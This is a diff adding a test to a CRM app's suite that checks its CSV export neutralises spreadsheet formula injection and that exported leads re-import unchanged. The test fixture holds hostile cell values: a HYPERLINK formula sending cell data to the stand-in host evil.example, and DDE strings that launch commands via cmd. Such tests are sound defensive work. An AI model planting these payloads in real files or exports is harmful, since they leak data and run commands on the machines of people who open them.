@@ -256,6 +256,43 @@ async def test_csv_export_round_trips(client: TestClient):
     )
 
 
+async def test_csv_export_neutralises_formulas_and_an_export_imports_back_unchanged(
+    client: TestClient,
+):
+    hostile = {
+        "phone": "+14155550150",
+        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "company": "+cmd|' /C calc'!A0",
+        "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "budget": "-2+3+cmd|' /C calc'!A0",
+        "need": "\t=1+1",
+        "tags": ["=1+1", "web"],
+        "customFields": {"discount": "-5", "=evil()": "x"},
+    }
+    assert (await post(client, "/api/leads", hostile))[0] == 201
+    response = await client.get("/api/leads.csv", headers=AUTH)
+    text = await response.text()
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["name"] == "'" + hostile["name"] and row["company"] == "'" + hostile["company"]
+    assert row["owner"].startswith("'@") and row["budget"].startswith("'-")
+    assert row["need"].startswith("'") and row["tags"] == "'=1+1;web"
+    assert row["phone"] == "+14155550150" and row["discount"] == "-5", "numbers stay numbers"
+    assert "'=evil()" in row and row["'=evil()"] == "x"
+    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+14155550150"
+        assert not cell.startswith("-") or cell == "-5"
+    columns = ["phone", "name", "company", "owner", "budget", "need", "tags", "discount"]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([columns, [row[c] for c in columns]])
+    again = await client.post(
+        "/api/leads/import?dryRun=true",
+        data=buffer.getvalue().encode(),
+        headers=AUTH | {"Content-Type": "text/csv"},
+    )
+    report = await again.json()
+    assert again.status == 200 and report["unchanged"] == 1 and report["updated"] == 0, report
+
+
 async def test_gdpr_export_and_erase(client: TestClient):
     call = await record_call(client.db, SALES_CALL, sid="CA-gdpr", phone="+14155550160")
     await client.crm.queue.process_due()
